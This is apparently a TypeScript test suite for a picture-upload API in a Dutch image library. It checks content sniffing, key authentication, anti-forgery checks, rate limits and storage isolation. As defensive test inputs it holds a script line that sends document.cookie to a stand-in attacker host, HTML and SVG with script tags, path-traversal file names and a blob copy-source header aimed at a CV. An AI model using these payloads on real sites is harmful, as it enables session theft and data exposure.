import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { BlobServiceClient } from '@azure/storage-blob';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { PICTURE_BODY_LIMIT } from '@alz/shared/http/body-limits';
import { PICKER_CONTAINERS, PICTURES_CONTAINER } from '@alz/shared/media/picture-containers';
import { buildApp } from '../src/app';
import { azurePictureStore } from '../src/blob/pictures';
import { APPLICATIONS_ACCOUNT, localConnectionString, PICTURES_ACCOUNT } from '../src/blob/local-storage';
import { startAzurite, type Azurite } from './azurite';
import { antiForgery, SITE_ORIGIN, useApp } from './helper';
import { MemoryPictures, PICTURES } from './pictures-support';

// The picker's writes go through the api (spec 2 §7: upload a blob, delete a blob), which lets
// only pictures into the pictures containers: by their content, whatever name or type the
// browser gives, and for the editors' key only. No storage token exists any more.
const KEY = 'redacteur-sleutel-0123456789';
const path = (name: string, container = PICTURES_CONTAINER) =>
  `/api/v1/picker/pictures/${container}/${encodeURIComponent(name)}`;

const put = (
  name: string,
  payload: Buffer,
  headers: Record<string, string> = {},
  container?: string,
): InjectOptions => ({
  method: 'PUT',
  url: path(name, container),
  headers: { ...antiForgery(), authorization: `Bearer ${KEY}`, 'content-type': 'image/png', ...headers },
  payload,
});
const remove = (name: string, headers: Record<string, string> = {}): InjectOptions => ({
  method: 'DELETE',
  url: path(name),
  headers: { ...antiForgery(), authorization: `Bearer ${KEY}`, ...headers },
});

// Script and markup dressed as pictures: what an editor's browser (or anyone with the key)
// might send, and what must never be served from the site's origin.
const SCRIPT = Buffer.from('document.location="https://kwaadwillend.example/?"+document.cookie;');
const PAGE = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n');

describe('the picker writes pictures through the api', () => {
  const context = useApp('pglite');
  const memory = new MemoryPictures();
  let app: FastifyInstance;
  let readOnly: FastifyInstance;
  const build = (options: Partial<Parameters<typeof buildApp>[0]> = {}) =>
    buildApp({
      db: { ...context.db, close: async () => undefined },
      siteUrl: SITE_ORIGIN,
      rateLimitMax: 0,
      pickerEditorKey: KEY,
      pictures: memory,
      ...options,
    });
  before(async () => {
    app = await build();
    readOnly = await build({ pickerEditorKey: null });
  });
  after(async () => {
    await app?.close();
    await readOnly?.close();
  });

  it('stores a picture of each accepted kind with the type its content shows, not the one the browser claimed', async () => {
    for (const [extension, content] of Object.entries(PICTURES)) {
      const response = await app.inject(
        put(`Tuin.${extension}`, content, { 'content-type': 'application/octet-stream' }),
      );
      assert.equal(response.statusCode, 201, `${extension}: ${response.body}`);
      assert.equal(response.headers['cache-control'], 'no-store');
      const type = extension === 'jpg' ? 'image/jpeg' : `image/${extension}`;
      assert.deepEqual(response.json(), { Name: `Tuin.${extension}`, ContentType: type });
      assert.deepEqual(memory.stored.get(`pictures/Tuin.${extension}`), { content, type });
    }
    // A sized copy goes to its own container, under its own name (spec 2 §7).
    assert.equal((await app.inject(put('Tuin-404x227.png', PICTURES.png, {}, 'pictures-404x227'))).statusCode, 201);
    assert.ok(memory.stored.has('pictures-404x227/Tuin-404x227.png'));
  });

  it('refuses script, a web page, an SVG with script and a PDF, whatever their name, and stores nothing', async () => {
    memory.stored.clear();
    const cases: [string, Buffer, string][] = [
      ['aanval.js', SCRIPT, 'text/javascript'],
      ['aanval.png', SCRIPT, 'image/png'],
      ['pagina.html', PAGE, 'text/html'],
      ['pagina.png', PAGE, 'image/png'],
      ['tekening.svg', SVG, 'image/svg+xml'],
      ['tekening.png', SVG, 'image/png'],
      ['document.png', PDF, 'image/png'],
      ['leeg.png', Buffer.alloc(0), 'image/png'],
      // A real picture under a name that says something else: the site would serve it by that name.
      ['foto.gif', PICTURES.png, 'image/gif'],
    ];
    for (const [name, content, type] of cases) {
      const response = await app.inject(put(name, content, { 'content-type': type }));
      assert.equal(response.statusCode, 400, `${name}: ${response.body}`);
      assert.deepEqual(
        response.json(),
        {
          statusCode: 400,
          error: 'Bad Request',
          message: 'Dit bestand is geen afbeelding. Kies een JPG-, PNG-, GIF- of WebP-bestand.',
          code: 'not-a-picture',
        },
        name,
      );
    }
    // A Copy Blob asks storage to fetch the source itself; the api takes no such header, only a body it has read.
    const copy = await app.inject(
      put('kopie.png', Buffer.alloc(0), {
        'x-ms-copy-source': 'http://127.0.0.1:10000/alzapplications/applications/0000/cv.pdf',
        'x-ms-requires-sync': 'true',
      }),
    );
    assert.equal(copy.statusCode, 400);
    assert.equal(memory.stored.size, 0);
  });

  it('writes only into the picker containers, under names the picker makes', async () => {
    memory.stored.clear();
    for (const container of ['applications', 'content', 'pictures-onbekend']) {
      const response = await app.inject(put('foto.png', PICTURES.png, {}, container));
      assert.ok([400, 404].includes(response.statusCode), `${container}: ${response.statusCode}`);
    }
    for (const name of [
      '../applications/cv.png',
      'map/foto.png',
      '.verborgen.png',
      'foto\u0007.png',
      'foto',
      `${'a'.repeat(201)}.png`,
    ]) {
      const response = await app.inject(put(name, PICTURES.png));
      assert.ok([400, 404].includes(response.statusCode), `${JSON.stringify(name)}: ${response.statusCode}`);
      assert.match(String(response.headers['content-type']), /^application\/json/);
    }
    assert.equal(memory.stored.size, 0);
    for (const container of PICKER_CONTAINERS) {
      assert.equal((await app.inject(put('Zee (2).png', PICTURES.png, {}, container))).statusCode, 201, container);
    }
  });

  it('never writes an original over another (If-None-Match: *), and a copy may be made again', async () => {
    memory.stored.clear();
    assert.equal((await app.inject(put('Bos.png', PICTURES.png, { 'if-none-match': '*' }))).statusCode, 201);
    const again = await app.inject(put('Bos.png', PICTURES.png, { 'if-none-match': '*' }));
    assert.equal(again.statusCode, 409);
    assert.equal(again.json<{ code: string }>().code, 'picture-name-taken');
    assert.equal((await app.inject(put('Bos.png', PICTURES.png))).statusCode, 201);
  });

  it('deletes by name; one already gone is no failure', async () => {
    memory.stored.clear();
    await app.inject(put('Weg.png', PICTURES.png));
    assert.equal((await app.inject(remove('Weg.png'))).statusCode, 204);
    assert.equal(memory.stored.size, 0);
    assert.equal((await app.inject(remove('Weg.png'))).statusCode, 204);
  });

  it('answers 403 when no editor key is configured, and 401 without the right key in any form', async () => {
    memory.stored.clear();
    const readOnlyAnswer = await readOnly.inject(put('foto.png', PICTURES.png));
    assert.equal(readOnlyAnswer.statusCode, 403);
    assert.equal(readOnlyAnswer.json<{ code: string }>().code, 'picker-read-only');
    const attempts: Record<string, string> = {
      'a wrong key': 'Bearer redacteur-sleutel-0123456788',
      'the key with something after it': `Bearer ${KEY}x`,
      'a prefix of the key': `Bearer ${KEY.slice(0, -1)}`,
      'another scheme': `Basic ${KEY}`,
      'two words': `Bearer ${KEY} ${KEY}`,
    };
    for (const [label, authorization] of Object.entries(attempts)) {
      for (const request of [put('foto.png', PICTURES.png, { authorization }), remove('foto.png', { authorization })]) {
        const response = await app.inject(request);
        assert.equal(response.statusCode, 401, label);
        assert.equal(response.headers['www-authenticate'], 'Bearer realm="picker"', label);
        assert.deepEqual(
          response.json(),
          {
            statusCode: 401,
            error: 'Unauthorized',
            message: 'Geef een geldige sleutel voor de beeldbank mee.',
            code: 'picker-unauthorized',
          },
          label,
        );
      }
    }
    const { authorization: _key, ...withoutKey } = put('foto.png', PICTURES.png).headers as Record<string, string>;
    assert.equal((await app.inject({ ...put('foto.png', PICTURES.png), headers: withoutKey })).statusCode, 401);
    assert.equal(memory.stored.size, 0);
  });

  it('refuses a call without the anti-forgery token, or from another site, even with the right key', async () => {
    memory.stored.clear();
    const auth = { authorization: `Bearer ${KEY}`, 'content-type': 'image/png' };
    for (const headers of [
      { ...auth, origin: SITE_ORIGIN, 'sec-fetch-site': 'same-origin' },
      { ...antiForgery(), ...auth, 'sec-fetch-site': 'cross-site' },
      { ...antiForgery(), ...auth, origin: 'https://kwaadwillend.example' },
    ]) {
      const response = await app.inject({ method: 'PUT', url: path('foto.png'), headers, payload: PICTURES.png });
      assert.equal(response.statusCode, 403, response.body);
      assert.equal(response.json<{ code: string }>().code, 'anti-forgery');
    }
    assert.equal(memory.stored.size, 0);
  });

  it('refuses a picture over its limit with 413 JSON', async () => {
    const big = Buffer.concat([PICTURES.png, Buffer.alloc(PICTURE_BODY_LIMIT)]);
    const response = await app.inject(put('groot.png', big));
    assert.equal(response.statusCode, 413);
    assert.match(String(response.headers['content-type']), /^application\/json/);
    assert.equal(memory.stored.has('pictures/groot.png'), false);
  });

  it('answers 503 JSON when no pictures account is configured, or blob storage cannot be reached', async () => {
    const unreachable = azurePictureStore(localConnectionString(PICTURES_ACCOUNT, 9));
    for (const pictures of [null, unreachable]) {
      const without = await build({ pictures });
      try {
        for (const request of [put('foto.png', PICTURES.png), remove('foto.png')]) {
          const response = await without.inject(request);
          assert.equal(response.statusCode, 503, response.body);
          assert.equal(
            response.json<{ message: string }>().message,
            'De beeldbank kan nu niet worden bewerkt. Probeer het later opnieuw.',
          );
        }
      } finally {
        await without.close();
      }
    }
  });

  it('lets an editor upload a picture with all thirteen copies within the write limits; a guesser is stopped', async () => {
    const limited = await build({ rateLimitMax: 600 });
    try {
      for (const container of PICKER_CONTAINERS) {
        const response = await limited.inject(put(`Reeks.png`, PICTURES.png, {}, container));
        assert.equal(response.statusCode, 201, `${container}: ${response.body}`);
      }
      const statuses = new Set<number>();
      for (let call = 0; call < 300; call += 1) {
        statuses.add(
          (await limited.inject(put('gok.png', PICTURES.png, { authorization: `Bearer gok-${call}` }))).statusCode,
        );
      }
      assert.deepEqual([...statuses].sort(), [401, 429]);
    } finally {
      await limited.close();
    }
  });
});

describe('the pictures account in Azurite', () => {
  let storage: Azurite | null = null;
  before(async () => {
    storage = await startAzurite();
  });
  after(() => storage?.stop());

  it('stores what the api checked with its detected type; an original is never replaced; delete removes it', async (t) => {
    if (!storage) return t.skip('Azurite did not start');
    const connectionString = localConnectionString(PICTURES_ACCOUNT, storage.port);
    const container = BlobServiceClient.fromConnectionString(connectionString).getContainerClient(PICTURES_CONTAINER);
    await container.createIfNotExists({ access: 'container' });
    const store = azurePictureStore(connectionString);
    assert.equal(await store.write(PICTURES_CONTAINER, 'Duin.png', PICTURES.png, 'image/png', true), true);
    assert.equal(await store.write(PICTURES_CONTAINER, 'Duin.png', PICTURES.gif, 'image/gif', true), false);
    const blob = container.getBlobClient('Duin.png');
    const properties = await blob.getProperties();
    assert.equal(properties.contentType, 'image/png');
    assert.equal(properties.cacheControl, 'public, max-age=86400');
    assert.ok((await blob.downloadToBuffer()).equals(PICTURES.png));
    await store.delete(PICTURES_CONTAINER, 'Duin.png');
    assert.equal(await blob.exists(), false);
    await store.delete(PICTURES_CONTAINER, 'Duin.png');
  });

  it("keeps the cvs in another account: the pictures account's key opens none of them", async (t) => {
    if (!storage) return t.skip('Azurite did not start');
    const cvs = BlobServiceClient.fromConnectionString(localConnectionString(APPLICATIONS_ACCOUNT, storage.port));
    await cvs.getContainerClient('applications').createIfNotExists();
    await cvs.getContainerClient('applications').getBlockBlobClient('0000/cv.pdf').uploadData(PDF);
    const pictures = BlobServiceClient.fromConnectionString(localConnectionString(PICTURES_ACCOUNT, storage.port));
    assert.equal(await pictures.getContainerClient('applications').getBlobClient('0000/cv.pdf').exists(), false);
  });
});
